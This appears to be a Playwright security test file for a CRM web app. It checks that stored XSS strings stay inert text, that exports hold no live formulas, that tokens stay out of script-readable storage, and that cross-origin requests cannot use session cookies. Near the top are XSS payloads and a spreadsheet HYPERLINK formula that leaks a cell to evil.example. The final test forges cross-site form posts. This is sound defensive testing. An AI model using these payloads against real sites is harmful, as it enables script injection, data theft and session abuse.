"""What a malicious user types stays text for everybody who sees it, and opens no way to a session."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Dialog, Page, Request, expect

from tests.web.conftest import Apps, NewPage
from tests.web.pages_documents import FormPage, ListPage
from tests.web.pages_signing import SignIn
from tests.web.people import Company

SCRIPT = "<script>window.ran='script'</script>"
IMAGE = "<img src=x onerror=\"window.ran='image'\">"
QUOTE = "\"'><svg onload=window.ran='svg'>"
TEMPLATE = "{{constructor.constructor('window.ran=1')()}}"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
CUSTOMER = f"{IMAGE} 甲公司"


class Watch:
    """What a page has asked of other hosts, and which dialogs it has opened."""

    def __init__(self, page: Page, apps: Apps) -> None:
        self.foreign: list[str] = []
        self.dialogs: list[str] = []
        self._own = {urlsplit(apps.client).netloc, urlsplit(apps.admin).netloc, ""}
        page.on("request", self._asked)
        page.on("dialog", self._told)

    def _asked(self, request: Request) -> None:
        address = urlsplit(request.url)
        # The browser's own viewer of PDF files is an extension of it.
        if address.scheme in {"http", "https", "ws", "wss"} and address.netloc not in self._own:
            self.foreign.append(request.url)

    def _told(self, dialog: Dialog) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def nothing_ran(self, page: Page) -> None:
        """No script, no dialog, no other host."""
        assert page.evaluate("() => window.ran ?? null") is None
        assert (self.foreign, self.dialogs) == ([], [])


@pytest.fixture
def attacked(company: Company) -> dict[str, str]:
    """Hostile texts in every kind of text field of a lead, a customer and a quote."""
    admin = company.admin
    crm = "/api/v1/crm"
    customer = admin.post(
        f"{crm}/customers",
        {"name": CUSTOMER, "short_name": QUOTE, "industry": SCRIPT, "area": TEMPLATE, "address": FORMULA}
        | {"remark": f"{SCRIPT}\n{IMAGE}\n{QUOTE}", "channel": "javascript:window.ran='link'"},
    )
    product = admin.post(f"{crm}/products", {"code": "P", "name": f"{SCRIPT}泵", "price": "1"})
    quote = admin.post(
        f"{crm}/quotes",
        {"name": FORMULA, "customer_id": customer["id"], "terms": IMAGE, "remark": SCRIPT}
        | {"lines": [{"product_id": product["id"], "quantity": "1", "remark": QUOTE}]},
    )
    lead = admin.post(f"{crm}/leads", {"name": IMAGE, "company": SCRIPT, "need": QUOTE, "remark": TEMPLATE})
    admin.patch(f"{crm}/customers/{customer['id']}", {"area": SCRIPT, "version": customer["version"]})
    admin.post(f"{crm}/customers/{customer['id']}/follow", {"content": IMAGE})
    return {"customer": customer["id"], "quote": quote["id"], "lead": lead["id"]}


def test_hostile_texts_are_shown_as_texts(
    apps: Apps, company: Company, attacked: dict[str, str], new_page: NewPage
) -> None:
    page = new_page()
    watch = Watch(page, apps)
    SignIn(page, apps.client).enter(company.admin, "/c/crm/customers")
    customers = ListPage(page, "客户").shown()
    expect(customers.grid.get_by_text(CUSTOMER).first).to_be_visible()
    watch.nothing_ran(page)

    customers.open_row(CUSTOMER)
    form = FormPage(page)
    expect(page.get_by_role("heading", level=1)).to_contain_text(CUSTOMER)
    expect(form.field("行业")).to_contain_text(SCRIPT)
    expect(form.field("备注")).to_contain_text(IMAGE)
    page.get_by_role("tab", name="动态").click()
    expect(page.get_by_role("tabpanel", name="动态")).to_contain_text(SCRIPT)
    watch.nothing_ran(page)
    form.edit()
    expect(form.field("简称").get_by_role("textbox")).to_have_value(QUOTE)
    form.fill("简称", IMAGE)
    form.save()
    expect(form.field("简称")).to_contain_text(IMAGE)
    watch.nothing_ran(page)

    page.goto(f"{apps.client}/c/crm/quotes/{attacked['quote']}")
    expect(form.field("客户")).to_contain_text(CUSTOMER)
    expect(page.get_by_role("region", name="明细", exact=True)).to_contain_text(f"{SCRIPT}泵")
    form.act_more("打印")
    dialog = page.get_by_role("dialog")
    expect(dialog).to_be_visible()
    expect(dialog.locator("iframe, img, canvas, object, embed").first).to_be_visible()
    watch.nothing_ran(page)
    page.keyboard.press("Escape")

    page.goto(f"{apps.client}/search?q=%E7%94%B2%E5%85%AC%E5%8F%B8")
    expect(page.get_by_role("link", name=CUSTOMER).first).to_be_visible()
    watch.nothing_ran(page)
    page.goto(f"{apps.client}/c/crm/leads")
    expect(ListPage(page, "线索").shown().grid.get_by_text(IMAGE).first).to_be_visible()
    page.goto(f"{apps.client}/messages")
    expect(page.get_by_role("heading", level=1)).to_be_visible()
    page.goto(f"{apps.client}/")
    expect(page.get_by_role("heading").first).to_be_visible()
    watch.nothing_ran(page)


def test_a_board_shows_hostile_texts_as_texts(
    apps: Apps, company: Company, attacked: dict[str, str], new_page: NewPage
) -> None:
    settings = {"by": "state", "card": ["name", "company"]}
    body = {"entity": "crm.lead", "name": f"{SCRIPT}板", "kind": "kanban", "settings": settings, "sharing": "private"}
    view = company.admin.post("/api/v1/crm/views", body)
    page = new_page()
    watch = Watch(page, apps)
    SignIn(page, apps.client).enter(company.admin, f"/c/crm/leads?view={view['id']}")
    expect(page.get_by_text(IMAGE).first).to_be_visible()
    expect(page.get_by_text(f"{SCRIPT}板").first).to_be_visible()
    watch.nothing_ran(page)


def test_a_notice_shows_hostile_texts_as_texts(apps: Apps, company: Company, new_page: NewPage) -> None:
    """From the tenant's own template, from the document's values, and from the name of who did it."""
    admin, crm = company.admin, "/api/v1/crm"
    reader = company.hire("reader", f"{IMAGE}读者")
    kind = {"kind": "crm.lead.hostile", "name": SCRIPT}
    admin.post(
        f"{crm}/notification-templates",
        kind | {"title_zh": f"{SCRIPT}标题 {{name}}", "text_zh": f"{IMAGE}正文 {{company}} {{need}}"},
    )
    rule = {"entity": "crm.lead", "happens": "created", "recipients": [{"type": "user", "value": reader.id}]}
    admin.post(f"{crm}/notification-rules", kind | rule | {"must_read": True})
    lead = admin.post(f"{crm}/leads", {"name": IMAGE, "company": QUOTE, "need": TEMPLATE})
    said = {"text": f"{SCRIPT} @[{IMAGE}]({reader.id})"}
    admin.post(f"{crm}/leads/{lead['id']}/_comments", said)

    page = new_page()
    watch = Watch(page, apps)
    SignIn(page, apps.client).enter(reader)
    # What must be read comes forward by itself.
    dialog = page.get_by_role("dialog")
    expect(dialog).to_contain_text(f"{SCRIPT}标题 {IMAGE}")
    expect(dialog).to_contain_text(f"{IMAGE}正文 {QUOTE} {TEMPLATE}")
    watch.nothing_ran(page)
    page.keyboard.press("Escape")
    expect(dialog).to_have_count(0)

    page.get_by_role("banner").get_by_role("link", name="未读消息").click()
    expect(page.get_by_role("heading", name="消息", level=1)).to_be_visible()
    notices = page.get_by_role("listitem")
    notice = notices.filter(has_text="标题")
    expect(notice).to_contain_text(f"{SCRIPT}标题 {IMAGE}")
    expect(notice).to_contain_text(f"{IMAGE}正文 {QUOTE} {TEMPLATE}")
    expect(notices.filter(has_text="评论中提到了您")).to_contain_text(f"{SCRIPT} @{IMAGE}")
    watch.nothing_ran(page)


def test_an_exported_table_runs_no_formula(
    apps: Apps, company: Company, attacked: dict[str, str], new_page: NewPage, tmp_path: Path
) -> None:
    page = new_page()
    SignIn(page, apps.client).enter(company.admin, "/c/crm/customers")
    ListPage(page, "客户").shown()
    columns = ["name", "address", "industry"]
    files = {}
    for kind in ("CSV", "Excel"):
        page.get_by_role("toolbar").get_by_role("button", name="更多操作").click()
        with page.expect_download() as waiting:
            page.get_by_role("menuitem", name=f"导出当前视图为 {kind}").click()
        files[kind] = tmp_path / waiting.value.suggested_filename
        waiting.value.save_as(files[kind])
    assert {path.suffix for path in files.values()} == {".csv", ".xlsx"}
    for path in files.values():
        assert_no_formula(path)
    # The address is no column of the usual view, so the whole of it is asked for, too.
    query = f"columns={','.join(columns)}"
    for kind in ("csv", "xlsx"):
        token = company.admin
        raw = token.raw(f"/api/v1/crm/exports/customers?format={kind}&{query}")
        path = tmp_path / f"all.{kind}"
        path.write_bytes(raw)
        assert_no_formula(path)
        assert b"HYPERLINK" in (raw if kind == "csv" else zipped(raw))


def assert_no_formula(path: Path) -> None:
    """No cell begins as a formula does, and no cell of a workbook is one."""
    raw = path.read_bytes()
    if path.suffix == ".csv":
        rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
        assert rows
        assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t"))]
    else:
        assert b"<f>" not in zipped(raw)
        assert b"<f " not in zipped(raw)


def zipped(raw: bytes) -> bytes:
    """All sheets and texts of a workbook."""
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        return b"".join(archive.read(name) for name in archive.namelist() if name.startswith("xl/"))


def test_a_page_keeps_no_token_where_a_script_could_read_it(apps: Apps, company: Company, new_page: NewPage) -> None:
    page = new_page()
    tokens: list[str] = []

    def note(path: str, body: str) -> None:
        if path.endswith(("/auth/login", "/auth/refresh")):
            answer = json.loads(body)
            tokens.append(answer["accessToken"])
            assert "refreshToken" not in answer

    page.on("response", lambda answer: note(urlsplit(answer.url).path, answer.text()) if answer.ok else None)
    SignIn(page, apps.client).enter(company.admin, "/c/crm/customers")
    ListPage(page, "客户").shown()
    assert len(tokens) >= 2, "the login, and the session that a reload goes on with"
    cookies = page.context.cookies()
    refresh = [cookie for cookie in cookies if cookie["path"].startswith("/api/v1/auth")]
    assert [(cookie["httpOnly"], cookie["sameSite"]) for cookie in refresh] == [(True, "Strict")]
    kept = page.evaluate(
        """async () => {
            const found = [document.cookie, JSON.stringify(localStorage), JSON.stringify(sessionStorage)];
            for (const { name } of await indexedDB.databases()) {
                const database = await new Promise((done) => {
                    const asked = indexedDB.open(name);
                    asked.onsuccess = () => done(asked.result);
                });
                for (const store of database.objectStoreNames) {
                    const rows = await new Promise((done) => {
                        const asked = database.transaction(store).objectStore(store).getAll();
                        asked.onsuccess = () => done(asked.result);
                    });
                    found.push(JSON.stringify(rows));
                }
                database.close();
            }
            for (const name of await caches.keys()) {
                for (const request of await (await caches.open(name)).keys()) found.push(request.url);
            }
            return found.join("\\n");
        }"""
    )
    assert "crm" in kept, "the metadata are kept; nothing to find would prove nothing"
    secrets = [*tokens, *(token.split(".")[1] for token in tokens), *(str(cookie["value"]) for cookie in refresh)]
    assert not [secret for secret in secrets if secret in kept]


def test_another_origin_can_do_nothing_with_the_cookie(apps: Apps, company: Company, new_page: NewPage) -> None:
    """The console's origin stands for any other one: same site, other port, so that even Strict cookies travel."""
    page = new_page(
        expected=["CORS", "ERR_FAILED", "403", "401", "400", "415", "Content Security Policy", "form-action"]
    )
    SignIn(page, apps.client).enter(company.admin)
    before = company.admin.get("/api/v1/crm/customers")["items"]
    stranger = page.context.new_page()
    stranger.route("**/evil", lambda route: route.fulfill(body="<h1>evil</h1>", content_type="text/html"))
    stranger.goto("http://127.0.0.1:9/evil")
    answers = stranger.evaluate(
        """async (client) => {
            const tried = [];
            for (const headers of [{}, { "X-Session": "client" }]) {
                try {
                    const answer = await fetch(`${client}/api/v1/auth/refresh`,
                        { method: "POST", credentials: "include", headers });
                    tried.push(answer.type === "opaque" ? "opaque" : await answer.text());
                } catch (error) { tried.push("refused"); }
            }
            return tried;
        }""",
        apps.client,
    )
    assert answers == ["refused", "refused"]
    for path in ("/api/v1/auth/refresh", "/api/v1/crm/customers", "/api/v1/auth/logout"):
        stranger.goto("http://127.0.0.1:9/evil")
        stranger.evaluate(
            """([address]) => {
                const form = document.createElement("form");
                form.method = "post";
                form.action = address;
                form.enctype = "text/plain";
                form.innerHTML = '<input name=\\'{"name":"evil","x":"\\' value=\\'"}\\'>';
                document.body.append(form);
                form.submit();
            }""",
            [apps.client + path],
        )
        stranger.wait_for_load_state()
        expect(stranger.locator("body")).not_to_contain_text("accessToken")
    assert company.admin.get("/api/v1/crm/customers")["items"] == before
    # Still signed in: the foreign logout has not ended the session.
    page.reload()
    expect(page.get_by_role("navigation", name="主菜单")).to_be_attached()
